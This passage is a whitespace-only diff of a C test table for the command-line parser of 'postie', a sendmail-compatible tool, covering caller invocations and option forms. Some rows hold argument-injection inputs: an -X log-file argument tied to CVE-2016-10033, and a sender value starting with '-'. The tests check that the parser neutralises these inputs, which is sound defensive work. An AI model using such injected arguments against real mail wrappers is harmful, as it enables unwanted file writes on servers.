@@ -13,8 +13,10 @@
 #include "tests/tap.h"
 
 #define MAXARGS 16
-#define ID100 "0123456789012345678901234567890123456789" \
-	"0123456789012345678901234567890123456789" "01234567890123456789"
+#define ID100                                                                                      \
+	"0123456789012345678901234567890123456789"                                                 \
+	"0123456789012345678901234567890123456789"                                                 \
+	"01234567890123456789"
 
 struct want {
 	enum cli_mode mode;
@@ -35,264 +37,344 @@ struct row {
 };
 
 static const struct row rows[] = {
-	/* Callers, exactly as they run sendmail. */
-	{"cron (Debian cron: -FCronDaemon -i -B8BITMIME -oem)",
-		{"/usr/sbin/sendmail", "-FCronDaemon", "-i", "-B8BITMIME", "-oem", "user", NULL},
-		NULL, {.fullname = "CronDaemon", .i = true, .body = 8, .ignored = "-oem",
-			.rcpts = "user"}},
-	{"PHP mail(): -t -i", {"sendmail", "-t", "-i", NULL}, NULL, {.t = true, .i = true}},
-	{"git send-email: -i rcpt...", {"/usr/sbin/sendmail", "-i", "a@example.org",
-		"b@example.org", NULL}, NULL, {.i = true, .rcpts = "a@example.org|b@example.org"}},
-	{"git send-email with envelope sender: -f x -i rcpt",
-		{"sendmail", "-f", "me@example.org", "-i", "a@example.org", NULL}, NULL,
-		{.sender = "me@example.org", .i = true, .rcpts = "a@example.org"}},
-	{"mail(1): -oi -f x -- rcpt", {"/usr/sbin/sendmail", "-oi", "-f", "me@example.org", "--",
-		"a@example.org", NULL}, NULL, {.i = true, .sender = "me@example.org",
-		.rcpts = "a@example.org"}},
-	{"mutt: -oem -oi -- rcpt", {"sendmail", "-oem", "-oi", "--", "a@example.org", NULL}, NULL,
-		{.i = true, .ignored = "-oem", .rcpts = "a@example.org"}},
-	{"sudo: -t", {"/usr/sbin/sendmail", "-t", NULL}, NULL, {.t = true}},
-	{"logwatch/mdadm style: -t -oi -odi", {"sendmail", "-t", "-oi", "-odi", NULL}, NULL,
-		{.t = true, .i = true, .ignored = "-odi"}},
+    /* Callers, exactly as they run sendmail. */
+    {"cron (Debian cron: -FCronDaemon -i -B8BITMIME -oem)",
+     {"/usr/sbin/sendmail", "-FCronDaemon", "-i", "-B8BITMIME", "-oem", "user", NULL},
+     NULL,
+     {.fullname = "CronDaemon", .i = true, .body = 8, .ignored = "-oem", .rcpts = "user"}},
+    {"PHP mail(): -t -i", {"sendmail", "-t", "-i", NULL}, NULL, {.t = true, .i = true}},
+    {"git send-email: -i rcpt...",
+     {"/usr/sbin/sendmail", "-i", "a@example.org", "b@example.org", NULL},
+     NULL,
+     {.i = true, .rcpts = "a@example.org|b@example.org"}},
+    {"git send-email with envelope sender: -f x -i rcpt",
+     {"sendmail", "-f", "me@example.org", "-i", "a@example.org", NULL},
+     NULL,
+     {.sender = "me@example.org", .i = true, .rcpts = "a@example.org"}},
+    {"mail(1): -oi -f x -- rcpt",
+     {"/usr/sbin/sendmail", "-oi", "-f", "me@example.org", "--", "a@example.org", NULL},
+     NULL,
+     {.i = true, .sender = "me@example.org", .rcpts = "a@example.org"}},
+    {"mutt: -oem -oi -- rcpt",
+     {"sendmail", "-oem", "-oi", "--", "a@example.org", NULL},
+     NULL,
+     {.i = true, .ignored = "-oem", .rcpts = "a@example.org"}},
+    {"sudo: -t", {"/usr/sbin/sendmail", "-t", NULL}, NULL, {.t = true}},
+    {"logwatch/mdadm style: -t -oi -odi",
+     {"sendmail", "-t", "-oi", "-odi", NULL},
+     NULL,
+     {.t = true, .i = true, .ignored = "-odi"}},
 
-	/* -t, -i */
-	{"--read-recipients", {"postie", "--read-recipients", NULL}, NULL, {.t = true}},
-	{"cluster -ti", {"postie", "-ti", NULL}, NULL, {.t = true, .i = true}},
-	{"-o i (separate)", {"postie", "-o", "i", NULL}, NULL, {.i = true}},
-	{"-oi in a cluster -toi", {"postie", "-toi", NULL}, NULL, {.t = true, .i = true}},
+    /* -t, -i */
+    {"--read-recipients", {"postie", "--read-recipients", NULL}, NULL, {.t = true}},
+    {"cluster -ti", {"postie", "-ti", NULL}, NULL, {.t = true, .i = true}},
+    {"-o i (separate)", {"postie", "-o", "i", NULL}, NULL, {.i = true}},
+    {"-oi in a cluster -toi", {"postie", "-toi", NULL}, NULL, {.t = true, .i = true}},
 
-	/* -f, -r, --from */
-	{"-f separate", {"postie", "-f", "u@example.org", NULL}, NULL, {.sender = "u@example.org"}},
-	{"-f attached", {"postie", "-fu@example.org", NULL}, NULL, {.sender = "u@example.org"}},
-	{"-r separate", {"postie", "-r", "u@example.org", NULL}, NULL, {.sender = "u@example.org"}},
-	{"-r attached", {"postie", "-ru@example.org", NULL}, NULL, {.sender = "u@example.org"}},
-	{"--from=", {"postie", "--from=u@example.org", NULL}, NULL, {.sender = "u@example.org"}},
-	{"--from separate", {"postie", "--from", "u@example.org", NULL}, NULL,
-		{.sender = "u@example.org"}},
-	{"-f '<>' is the null sender", {"postie", "-f", "<>", NULL}, NULL, {.sender = ""}},
-	{"-f<> attached", {"postie", "-f<>", NULL}, NULL, {.sender = ""}},
-	{"-f '' is the null sender", {"postie", "-f", "", "a@example.org", NULL}, NULL,
-		{.sender = "", .rcpts = "a@example.org"}},
-	{"-f last wins", {"postie", "-f", "a@x.org", "-r", "b@x.org", NULL}, NULL,
-		{.sender = "b@x.org"}},
-	{"-f takes a value beginning with '-' (checked as an address later)",
-		{"postie", "-f", "-bob@x.org", NULL}, NULL, {.sender = "-bob@x.org"}},
-	{"-f alone", {"postie", "-f", NULL}, "-f: missing argument", {0}},
+    /* -f, -r, --from */
+    {"-f separate", {"postie", "-f", "u@example.org", NULL}, NULL, {.sender = "u@example.org"}},
+    {"-f attached", {"postie", "-fu@example.org", NULL}, NULL, {.sender = "u@example.org"}},
+    {"-r separate", {"postie", "-r", "u@example.org", NULL}, NULL, {.sender = "u@example.org"}},
+    {"-r attached", {"postie", "-ru@example.org", NULL}, NULL, {.sender = "u@example.org"}},
+    {"--from=", {"postie", "--from=u@example.org", NULL}, NULL, {.sender = "u@example.org"}},
+    {"--from separate",
+     {"postie", "--from", "u@example.org", NULL},
+     NULL,
+     {.sender = "u@example.org"}},
+    {"-f '<>' is the null sender", {"postie", "-f", "<>", NULL}, NULL, {.sender = ""}},
+    {"-f<> attached", {"postie", "-f<>", NULL}, NULL, {.sender = ""}},
+    {"-f '' is the null sender",
+     {"postie", "-f", "", "a@example.org", NULL},
+     NULL,
+     {.sender = "", .rcpts = "a@example.org"}},
+    {"-f last wins",
+     {"postie", "-f", "a@x.org", "-r", "b@x.org", NULL},
+     NULL,
+     {.sender = "b@x.org"}},
+    {"-f takes a value beginning with '-' (checked as an address later)",
+     {"postie", "-f", "-bob@x.org", NULL},
+     NULL,
+     {.sender = "-bob@x.org"}},
+    {"-f alone", {"postie", "-f", NULL}, "-f: missing argument", {0}},
 
-	/* -F */
-	{"-F separate", {"postie", "-F", "Cron Daemon", NULL}, NULL, {.fullname = "Cron Daemon"}},
-	{"-F attached", {"postie", "-FCronDaemon", NULL}, NULL, {.fullname = "CronDaemon"}},
+    /* -F */
+    {"-F separate", {"postie", "-F", "Cron Daemon", NULL}, NULL, {.fullname = "Cron Daemon"}},
+    {"-F attached", {"postie", "-FCronDaemon", NULL}, NULL, {.fullname = "CronDaemon"}},
 
-	/* -a, -C */
-	{"-a separate", {"postie", "-a", "work", NULL}, NULL, {.account = "work"}},
-	{"-a attached", {"postie", "-awork", NULL}, NULL, {.account = "work"}},
-	{"--account=", {"postie", "--account=work", NULL}, NULL, {.account = "work"}},
-	{"-C separate", {"postie", "-C", "/tmp/p", NULL}, NULL, {.profile = "/tmp/p"}},
-	{"-C attached", {"postie", "-C/tmp/p", NULL}, NULL, {.profile = "/tmp/p"}},
-	{"--file=", {"postie", "--file=/tmp/p", NULL}, NULL, {.profile = "/tmp/p"}},
+    /* -a, -C */
+    {"-a separate", {"postie", "-a", "work", NULL}, NULL, {.account = "work"}},
+    {"-a attached", {"postie", "-awork", NULL}, NULL, {.account = "work"}},
+    {"--account=", {"postie", "--account=work", NULL}, NULL, {.account = "work"}},
+    {"-C separate", {"postie", "-C", "/tmp/p", NULL}, NULL, {.profile = "/tmp/p"}},
+    {"-C attached", {"postie", "-C/tmp/p", NULL}, NULL, {.profile = "/tmp/p"}},
+    {"--file=", {"postie", "--file=/tmp/p", NULL}, NULL, {.profile = "/tmp/p"}},
 
-	/* -v, -d */
-	{"-v", {"postie", "-v", NULL}, NULL, {.v = true}},
-	{"-vv", {"postie", "-vv", NULL}, NULL, {.v = true}},
-	{"-d", {"postie", "-d", NULL}, NULL, {.v = true}},
-	{"--debug", {"postie", "--debug", NULL}, NULL, {.v = true}},
-	{"--version", {"postie", "--version", NULL}, NULL, {.version = true}},
-	{"--help", {"postie", "--help", NULL}, NULL, {.help = true}},
+    /* -v, -d */
+    {"-v", {"postie", "-v", NULL}, NULL, {.v = true}},
+    {"-vv", {"postie", "-vv", NULL}, NULL, {.v = true}},
+    {"-d", {"postie", "-d", NULL}, NULL, {.v = true}},
+    {"--debug", {"postie", "--debug", NULL}, NULL, {.v = true}},
+    {"--version", {"postie", "--version", NULL}, NULL, {.version = true}},
+    {"--help", {"postie", "--help", NULL}, NULL, {.help = true}},
 
-	/* -q */
-	{"-q", {"postie", "-q", NULL}, NULL, {.mode = CLI_FLUSH}},
-	{"-q -v: -q never takes the next argument", {"postie", "-q", "-v", NULL}, NULL,
-		{.mode = CLI_FLUSH, .v = true}},
-	{"-q30m", {"postie", "-q30m", NULL}, NULL, {.mode = CLI_FLUSH}},
-	{"-qRexample.org", {"postie", "-qRexample.org", NULL}, NULL,
-		{.mode = CLI_FLUSH, .qr = "example.org"}},
-	{"-qIabc", {"postie", "-qIabc", NULL}, NULL, {.mode = CLI_FLUSH, .qi = "abc"}},
-	{"--flush", {"postie", "--flush", NULL}, NULL, {.mode = CLI_FLUSH}},
-	{"-qX refused", {"postie", "-qXfoo", NULL}, "-qXfoo: expected -q", {0}},
-	{"-q with a recipient", {"postie", "-q", "a@example.org", NULL},
-		"-q takes no recipients; remove a@example.org", {0}},
+    /* -q */
+    {"-q", {"postie", "-q", NULL}, NULL, {.mode = CLI_FLUSH}},
+    {"-q -v: -q never takes the next argument",
+     {"postie", "-q", "-v", NULL},
+     NULL,
+     {.mode = CLI_FLUSH, .v = true}},
+    {"-q30m", {"postie", "-q30m", NULL}, NULL, {.mode = CLI_FLUSH}},
+    {"-qRexample.org",
+     {"postie", "-qRexample.org", NULL},
+     NULL,
+     {.mode = CLI_FLUSH, .qr = "example.org"}},
+    {"-qIabc", {"postie", "-qIabc", NULL}, NULL, {.mode = CLI_FLUSH, .qi = "abc"}},
+    {"--flush", {"postie", "--flush", NULL}, NULL, {.mode = CLI_FLUSH}},
+    {"-qX refused", {"postie", "-qXfoo", NULL}, "-qXfoo: expected -q", {0}},
+    {"-q with a recipient",
+     {"postie", "-q", "a@example.org", NULL},
+     "-q takes no recipients; remove a@example.org",
+     {0}},
 
-	/* -b modes */
-	{"-bm", {"postie", "-bm", NULL}, NULL, {.mode = CLI_SEND}},
-	{"-b m (separate)", {"postie", "-b", "m", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
-	{"-bp", {"postie", "-bp", NULL}, NULL, {.mode = CLI_LIST}},
-	{"-bs", {"postie", "-bs", NULL}, NULL, {.mode = CLI_SERVE}},
-	{"-bs with a recipient", {"postie", "-bs", "a@x.org", NULL}, "-bs takes no recipients",
-		{0}},
-	{"-bv rcpt", {"postie", "-bv", "a@x.org", NULL}, NULL,
-		{.mode = CLI_VERIFY, .rcpts = "a@x.org"}},
-	{"-bi", {"postie", "-bi", NULL}, NULL, {.mode = CLI_NEWALIASES}},
-	{"-I", {"postie", "-I", NULL}, NULL, {.mode = CLI_NEWALIASES}},
-	{"-bd refused", {"postie", "-bd", NULL}, "-bd: postie has no daemon mode", {0}},
-	{"-bl refused", {"postie", "-bl", NULL}, "-bl: postie has no daemon mode", {0}},
-	{"-bh refused", {"postie", "-bh", NULL}, "-bh: postie keeps no host status database", {0}},
-	{"-bH refused", {"postie", "-bH", NULL}, "-bH: postie keeps no host status database", {0}},
-	{"-bt unknown", {"postie", "-bt", NULL}, "-bt: unknown mode", {0}},
-	{"-b alone", {"postie", "-b", NULL}, "-b: missing argument", {0}},
-	{"-bpx is not -bp", {"postie", "-bpx", NULL}, "-bpx: unknown mode", {0}},
+    /* -b modes */
+    {"-bm", {"postie", "-bm", NULL}, NULL, {.mode = CLI_SEND}},
+    {"-b m (separate)", {"postie", "-b", "m", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
+    {"-bp", {"postie", "-bp", NULL}, NULL, {.mode = CLI_LIST}},
+    {"-bs", {"postie", "-bs", NULL}, NULL, {.mode = CLI_SERVE}},
+    {"-bs with a recipient", {"postie", "-bs", "a@x.org", NULL}, "-bs takes no recipients", {0}},
+    {"-bv rcpt",
+     {"postie", "-bv", "a@x.org", NULL},
+     NULL,
+     {.mode = CLI_VERIFY, .rcpts = "a@x.org"}},
+    {"-bi", {"postie", "-bi", NULL}, NULL, {.mode = CLI_NEWALIASES}},
+    {"-I", {"postie", "-I", NULL}, NULL, {.mode = CLI_NEWALIASES}},
+    {"-bd refused", {"postie", "-bd", NULL}, "-bd: postie has no daemon mode", {0}},
+    {"-bl refused", {"postie", "-bl", NULL}, "-bl: postie has no daemon mode", {0}},
+    {"-bh refused", {"postie", "-bh", NULL}, "-bh: postie keeps no host status database", {0}},
+    {"-bH refused", {"postie", "-bH", NULL}, "-bH: postie keeps no host status database", {0}},
+    {"-bt unknown", {"postie", "-bt", NULL}, "-bt: unknown mode", {0}},
+    {"-b alone", {"postie", "-b", NULL}, "-b: missing argument", {0}},
+    {"-bpx is not -bp", {"postie", "-bpx", NULL}, "-bpx: unknown mode", {0}},
 
-	/* -B */
-	{"-B 7BIT", {"postie", "-B", "7BIT", NULL}, NULL, {.body = 7}},
-	{"-B8BITMIME", {"postie", "-B8BITMIME", NULL}, NULL, {.body = 8}},
-	{"-B 8bitmime (any case)", {"postie", "-B", "8bitmime", NULL}, NULL, {.body = 8}},
-	{"-B 9BIT", {"postie", "-B", "9BIT", NULL}, "-B 9BIT: expected 7BIT or 8BITMIME", {0}},
-	{"-B BINARYMIME", {"postie", "-BBINARYMIME", NULL}, "expected 7BIT or 8BITMIME", {0}},
+    /* -B */
+    {"-B 7BIT", {"postie", "-B", "7BIT", NULL}, NULL, {.body = 7}},
+    {"-B8BITMIME", {"postie", "-B8BITMIME", NULL}, NULL, {.body = 8}},
+    {"-B 8bitmime (any case)", {"postie", "-B", "8bitmime", NULL}, NULL, {.body = 8}},
+    {"-B 9BIT", {"postie", "-B", "9BIT", NULL}, "-B 9BIT: expected 7BIT or 8BITMIME", {0}},
+    {"-B BINARYMIME", {"postie", "-BBINARYMIME", NULL}, "expected 7BIT or 8BITMIME", {0}},
 
-	/* -N */
-	{"-N never", {"postie", "-N", "never", NULL}, NULL, {.notify = "NEVER"}},
-	{"-Nnever", {"postie", "-Nnever", NULL}, NULL, {.notify = "NEVER"}},
-	{"-N NEVER", {"postie", "-N", "NEVER", NULL}, NULL, {.notify = "NEVER"}},
-	{"-N success,delay,failure", {"postie", "-N", "success,delay,failure", NULL}, NULL,
-		{.notify = "SUCCESS,FAILURE,DELAY"}},
-	{"-N 'delay, failure' (Postfix's spelling)", {"postie", "-N", "delay, failure", NULL},
-		NULL, {.notify = "FAILURE,DELAY"}},
-	{"-NFailure,failure", {"postie", "-NFailure,failure", NULL}, NULL, {.notify = "FAILURE"}},
-	{"--dsn-notify=success", {"postie", "--dsn-notify=success", NULL}, NULL,
-		{.notify = "SUCCESS"}},
-	{"-N off (msmtp)", {"postie", "-N", "off", NULL}, NULL, {.overrides = "dsn_notify=off"}},
-	{"-N success then -N off", {"postie", "-Nsuccess", "-Noff", NULL}, NULL,
-		{.overrides = "dsn_notify=off"}},
-	{"-N bogus", {"postie", "-N", "bogus", NULL}, "-N bogus: expected never", {0}},
-	{"-N never,success", {"postie", "-N", "never,success", NULL},
-		"never cannot be combined", {0}},
-	{"-N ''", {"postie", "-N", "", NULL}, "-N needs never", {0}},
-	{"-N ','", {"postie", "-N", ",", NULL}, "-N needs never", {0}},
-	{"-N successful", {"postie", "-N", "successful", NULL}, "expected never", {0}},
+    /* -N */
+    {"-N never", {"postie", "-N", "never", NULL}, NULL, {.notify = "NEVER"}},
+    {"-Nnever", {"postie", "-Nnever", NULL}, NULL, {.notify = "NEVER"}},
+    {"-N NEVER", {"postie", "-N", "NEVER", NULL}, NULL, {.notify = "NEVER"}},
+    {"-N success,delay,failure",
+     {"postie", "-N", "success,delay,failure", NULL},
+     NULL,
+     {.notify = "SUCCESS,FAILURE,DELAY"}},
+    {"-N 'delay, failure' (Postfix's spelling)",
+     {"postie", "-N", "delay, failure", NULL},
+     NULL,
+     {.notify = "FAILURE,DELAY"}},
+    {"-NFailure,failure", {"postie", "-NFailure,failure", NULL}, NULL, {.notify = "FAILURE"}},
+    {"--dsn-notify=success", {"postie", "--dsn-notify=success", NULL}, NULL, {.notify = "SUCCESS"}},
+    {"-N off (msmtp)", {"postie", "-N", "off", NULL}, NULL, {.overrides = "dsn_notify=off"}},
+    {"-N success then -N off",
+     {"postie", "-Nsuccess", "-Noff", NULL},
+     NULL,
+     {.overrides = "dsn_notify=off"}},
+    {"-N bogus", {"postie", "-N", "bogus", NULL}, "-N bogus: expected never", {0}},
+    {"-N never,success", {"postie", "-N", "never,success", NULL}, "never cannot be combined", {0}},
+    {"-N ''", {"postie", "-N", "", NULL}, "-N needs never", {0}},
+    {"-N ','", {"postie", "-N", ",", NULL}, "-N needs never", {0}},
+    {"-N successful", {"postie", "-N", "successful", NULL}, "expected never", {0}},
 
-	/* -R */
-	{"-R full", {"postie", "-R", "full", NULL}, NULL, {.ret = "FULL"}},
-	{"-Rhdrs", {"postie", "-Rhdrs", NULL}, NULL, {.ret = "HDRS"}},
-	{"-R HDRS", {"postie", "-R", "HDRS", NULL}, NULL, {.ret = "HDRS"}},
-	{"--dsn-return=headers (msmtp)", {"postie", "--dsn-return=headers", NULL}, NULL,
-		{.ret = "HDRS"}},
-	{"-R off (msmtp)", {"postie", "-R", "off", NULL}, NULL, {.overrides = "dsn_return=off"}},
-	{"-R x", {"postie", "-R", "x", NULL}, "-R x: expected full or hdrs", {0}},
+    /* -R */
+    {"-R full", {"postie", "-R", "full", NULL}, NULL, {.ret = "FULL"}},
+    {"-Rhdrs", {"postie", "-Rhdrs", NULL}, NULL, {.ret = "HDRS"}},
+    {"-R HDRS", {"postie", "-R", "HDRS", NULL}, NULL, {.ret = "HDRS"}},
+    {"--dsn-return=headers (msmtp)",
+     {"postie", "--dsn-return=headers", NULL},
+     NULL,
+     {.ret = "HDRS"}},
+    {"-R off (msmtp)", {"postie", "-R", "off", NULL}, NULL, {.overrides = "dsn_return=off"}},
+    {"-R x", {"postie", "-R", "x", NULL}, "-R x: expected full or hdrs", {0}},
 
-	/* -V */
-	{"-V id", {"postie", "-V", "id-42@host", NULL}, NULL, {.envid = "id-42@host"}},
-	{"-Vid attached", {"postie", "-Vid42", NULL}, NULL, {.envid = "id42"}},
-	{"-V 100 characters", {"postie", "-V", ID100, NULL}, NULL, {.envid = ID100}},
-	{"-V 101 characters", {"postie", "-V", ID100 "0", NULL},
-		"1 to 100 characters long, not 101", {0}},
-	{"-V with a space", {"postie", "-V", "a b", NULL}, "-V a b: the envelope id must be", {0}},
-	{"-V with a control", {"postie", "-V", "a\tb", NULL}, "printable ASCII", {0}},
-	{"-V non-ASCII", {"postie", "-V", "caf\xc3\xa9", NULL}, "printable ASCII", {0}},
-	{"-V ''", {"postie", "-V", "", NULL}, "1 to 100 characters long, not 0", {0}},
+    /* -V */
+    {"-V id", {"postie", "-V", "id-42@host", NULL}, NULL, {.envid = "id-42@host"}},
+    {"-Vid attached", {"postie", "-Vid42", NULL}, NULL, {.envid = "id42"}},
+    {"-V 100 characters", {"postie", "-V", ID100, NULL}, NULL, {.envid = ID100}},
+    {"-V 101 characters",
+     {"postie", "-V", ID100 "0", NULL},
+     "1 to 100 characters long, not 101",
+     {0}},
+    {"-V with a space", {"postie", "-V", "a b", NULL}, "-V a b: the envelope id must be", {0}},
+    {"-V with a control", {"postie", "-V", "a\tb", NULL}, "printable ASCII", {0}},
+    {"-V non-ASCII", {"postie", "-V", "caf\xc3\xa9", NULL}, "printable ASCII", {0}},
+    {"-V ''", {"postie", "-V", "", NULL}, "1 to 100 characters long, not 0", {0}},
 
-	/* -X: accepted, ignored, never a file (CVE-2016-10033). */
-	{"-X file", {"postie", "-X", "/tmp/postie-cli-x.log", "a@x.org", NULL}, NULL,
-		{.rcpts = "a@x.org"}},
-	{"-Xfile attached, twice", {"postie", "-X/tmp/a", "-X/tmp/b", NULL}, NULL, {0}},
+    /* -X: accepted, ignored, never a file (CVE-2016-10033). */
+    {"-X file",
+     {"postie", "-X", "/tmp/postie-cli-x.log", "a@x.org", NULL},
+     NULL,
+     {.rcpts = "a@x.org"}},
+    {"-Xfile attached, twice", {"postie", "-X/tmp/a", "-X/tmp/b", NULL}, NULL, {0}},
 
-	/* Ignored flags, each form. */
-	{"-G -U -m -n -c -x", {"postie", "-G", "-U", "-m", "-n", "-c", "-x", NULL}, NULL,
-		{.ignored = "-G -U -m -n -c -x"}},
-	{"-GU cluster", {"postie", "-GUi", NULL}, NULL, {.i = true, .ignored = "-G -U"}},
-	{"-h N separate and attached", {"postie", "-h", "17", "-h5", NULL}, NULL,
-		{.ignored = "-h 17 -h 5"}},
-	{"-L tag", {"postie", "-L", "tag", "-Lother", NULL}, NULL, {.ignored = "-L tag -L other"}},
-	{"-O opt=val", {"postie", "-O", "DeliveryMode=b", "-ORequireTLS=yes", NULL}, NULL,
-		{.ignored = "-O DeliveryMode=b -O RequireTLS=yes"}},
-	{"-Am -A c", {"postie", "-Am", "-A", "c", NULL}, NULL, {.ignored = "-Am -Ac"}},
-	{"-e and -p", {"postie", "-e", "q", "-psmtp:host", NULL}, NULL,
-		{.ignored = "-e q -p smtp:host"}},
-	{"-oe* -od* -om -o7 -o8", {"postie", "-oem", "-oee", "-oep", "-oeq", "-oew", "-odb",
-		"-odi", "-odq", "-om", "-o7", "-o8", NULL}, NULL,
-		{.ignored = "-oem -oee -oep -oeq -oew -odb -odi -odq -om -o7 -o8"}},
-	{"-oQ -oA -oB and -o e separate", {"postie", "-oQ/var/spool", "-oA/etc/aliases", "-oB.",
-		"-o", "em", NULL}, NULL, {.ignored = "-oQ/var/spool -oA/etc/aliases -oB. -oem"}},
-	{"ignored control characters shown as ?", {"postie", "-L", "a\tb\x7f", NULL}, NULL,
-		{.ignored = "-L a?b?"}},
-	{"-o alone", {"postie", "-o", NULL}, "-o: missing argument", {0}},
-	{"-o ''", {"postie", "-o", "", NULL}, "-o needs an option letter", {0}},
-	{"-h alone", {"postie", "-h", NULL}, "-h: missing argument", {0}},
+    /* Ignored flags, each form. */
+    {"-G -U -m -n -c -x",
+     {"postie", "-G", "-U", "-m", "-n", "-c", "-x", NULL},
+     NULL,
+     {.ignored = "-G -U -m -n -c -x"}},
+    {"-GU cluster", {"postie", "-GUi", NULL}, NULL, {.i = true, .ignored = "-G -U"}},
+    {"-h N separate and attached",
+     {"postie", "-h", "17", "-h5", NULL},
+     NULL,
+     {.ignored = "-h 17 -h 5"}},
+    {"-L tag", {"postie", "-L", "tag", "-Lother", NULL}, NULL, {.ignored = "-L tag -L other"}},
+    {"-O opt=val",
+     {"postie", "-O", "DeliveryMode=b", "-ORequireTLS=yes", NULL},
+     NULL,
+     {.ignored = "-O DeliveryMode=b -O RequireTLS=yes"}},
+    {"-Am -A c", {"postie", "-Am", "-A", "c", NULL}, NULL, {.ignored = "-Am -Ac"}},
+    {"-e and -p",
+     {"postie", "-e", "q", "-psmtp:host", NULL},
+     NULL,
+     {.ignored = "-e q -p smtp:host"}},
+    {"-oe* -od* -om -o7 -o8",
+     {"postie", "-oem", "-oee", "-oep", "-oeq", "-oew", "-odb", "-odi", "-odq", "-om", "-o7", "-o8",
+      NULL},
+     NULL,
+     {.ignored = "-oem -oee -oep -oeq -oew -odb -odi -odq -om -o7 -o8"}},
+    {"-oQ -oA -oB and -o e separate",
+     {"postie", "-oQ/var/spool", "-oA/etc/aliases", "-oB.", "-o", "em", NULL},
+     NULL,
+     {.ignored = "-oQ/var/spool -oA/etc/aliases -oB. -oem"}},
+    {"ignored control characters shown as ?",
+     {"postie", "-L", "a\tb\x7f", NULL},
+     NULL,
+     {.ignored = "-L a?b?"}},
+    {"-o alone", {"postie", "-o", NULL}, "-o: missing argument", {0}},
+    {"-o ''", {"postie", "-o", "", NULL}, "-o needs an option letter", {0}},
+    {"-h alone", {"postie", "-h", NULL}, "-h: missing argument", {0}},
 
-	/* msmtp modes */
-	{"-S", {"postie", "-S", NULL}, NULL, {.mode = CLI_SERVERINFO}},
-	{"--serverinfo", {"postie", "--serverinfo", NULL}, NULL, {.mode = CLI_SERVERINFO}},
-	{"--serverinfo with a recipient", {"postie", "--serverinfo", "a@x.org", NULL},
-		"--serverinfo takes no recipients", {0}},
-	{"-P rcpt", {"postie", "-P", "a@x.org", NULL}, NULL,
-		{.mode = CLI_PRETEND, .rcpts = "a@x.org"}},
-	{"--pretend", {"postie", "--pretend", NULL}, NULL, {.mode = CLI_PRETEND}},
-	{"--read-envelope-from", {"postie", "--read-envelope-from", "-t", NULL}, NULL,
-		{.envfrom = true, .t = true}},
+    /* msmtp modes */
+    {"-S", {"postie", "-S", NULL}, NULL, {.mode = CLI_SERVERINFO}},
+    {"--serverinfo", {"postie", "--serverinfo", NULL}, NULL, {.mode = CLI_SERVERINFO}},
+    {"--serverinfo with a recipient",
+     {"postie", "--serverinfo", "a@x.org", NULL},
+     "--serverinfo takes no recipients",
+     {0}},
+    {"-P rcpt", {"postie", "-P", "a@x.org", NULL}, NULL, {.mode = CLI_PRETEND, .rcpts = "a@x.org"}},
+    {"--pretend", {"postie", "--pretend", NULL}, NULL, {.mode = CLI_PRETEND}},
+    {"--read-envelope-from",
+     {"postie", "--read-envelope-from", "-t", NULL},
+     NULL,
+     {.envfrom = true, .t = true}},
 
-	/* msmtp long options into the overrides. */
-	{"--tls alone takes no recipient (SEC-21)", {"postie", "--tls", "a@x.org", NULL}, NULL,
-		{.overrides = "tls=on", .rcpts = "a@x.org"}},
-	{"--auth alone", {"postie", "--auth", "a@x.org", NULL}, NULL,
-		{.overrides = "auth=on", .rcpts = "a@x.org"}},
-	{"--auth=plain", {"postie", "--auth=plain", NULL}, NULL, {.overrides = "auth=plain"}},
-	{"--tls=off", {"postie", "--tls=off", NULL}, NULL, {.overrides = "tls=off"}},
-	{"--tls= (empty: on, as in msmtp)", {"postie", "--tls=", NULL}, NULL,
-		{.overrides = "tls="}},
-	{"--host separate", {"postie", "--host", "smtp.x.org", "a@x.org", NULL}, NULL,
-		{.overrides = "host=smtp.x.org", .rcpts = "a@x.org"}},
-	{"--user= (unset)", {"postie", "--user=", NULL}, NULL, {.overrides = "user="}},
-	{"--keepbcc", {"postie", "--keepbcc", NULL}, "--keepbcc: not taken from the command line",
-		{0}},
-	{"--keepbcc=off", {"postie", "--keepbcc=off", NULL}, NULL,
-		{.overrides = "remove_bcc_headers=on"}},
-	{"--keepbcc=maybe", {"postie", "--keepbcc=maybe", NULL}, "--keepbcc=maybe: expected on",
-		{0}},
-	{"several, in order", {"postie", "--host=h.x.org", "--port", "2525", "--tls=off", "-t",
-		"--tls-starttls", "--syslog=LOG_MAIL", "--", "a@x.org", NULL}, NULL,
-		{.t = true, .rcpts = "a@x.org", .overrides = "host=h.x.org|port=2525|tls=off|"
-			"tls_starttls=on|syslog=LOG_MAIL"}},
-	{"a long option after -f's value", {"postie", "-f", "--tls", "--tls", NULL}, NULL,
-		{.sender = "--tls", .overrides = "tls=on"}},
-	{"--rmqs is not offered", {"postie", "--rmqs=x", NULL}, "--rmqs=x: unknown option", {0}},
-	{"--tls-force-sslv3 is not offered", {"postie", "--tls-force-sslv3", NULL},
-		"unknown option", {0}},
+    /* msmtp long options into the overrides. */
+    {"--tls alone takes no recipient (SEC-21)",
+     {"postie", "--tls", "a@x.org", NULL},
+     NULL,
+     {.overrides = "tls=on", .rcpts = "a@x.org"}},
+    {"--auth alone",
+     {"postie", "--auth", "a@x.org", NULL},
+     NULL,
+     {.overrides = "auth=on", .rcpts = "a@x.org"}},
+    {"--auth=plain", {"postie", "--auth=plain", NULL}, NULL, {.overrides = "auth=plain"}},
+    {"--tls=off", {"postie", "--tls=off", NULL}, NULL, {.overrides = "tls=off"}},
+    {"--tls= (empty: on, as in msmtp)", {"postie", "--tls=", NULL}, NULL, {.overrides = "tls="}},
+    {"--host separate",
+     {"postie", "--host", "smtp.x.org", "a@x.org", NULL},
+     NULL,
+     {.overrides = "host=smtp.x.org", .rcpts = "a@x.org"}},
+    {"--user= (unset)", {"postie", "--user=", NULL}, NULL, {.overrides = "user="}},
+    {"--keepbcc", {"postie", "--keepbcc", NULL}, "--keepbcc: not taken from the command line", {0}},
+    {"--keepbcc=off",
+     {"postie", "--keepbcc=off", NULL},
+     NULL,
+     {.overrides = "remove_bcc_headers=on"}},
+    {"--keepbcc=maybe", {"postie", "--keepbcc=maybe", NULL}, "--keepbcc=maybe: expected on", {0}},
+    {"several, in order",
+     {"postie", "--host=h.x.org", "--port", "2525", "--tls=off", "-t", "--tls-starttls",
+      "--syslog=LOG_MAIL", "--", "a@x.org", NULL},
+     NULL,
+     {.t = true,
+      .rcpts = "a@x.org",
+      .overrides = "host=h.x.org|port=2525|tls=off|"
+                   "tls_starttls=on|syslog=LOG_MAIL"}},
+    {"a long option after -f's value",
+     {"postie", "-f", "--tls", "--tls", NULL},
+     NULL,
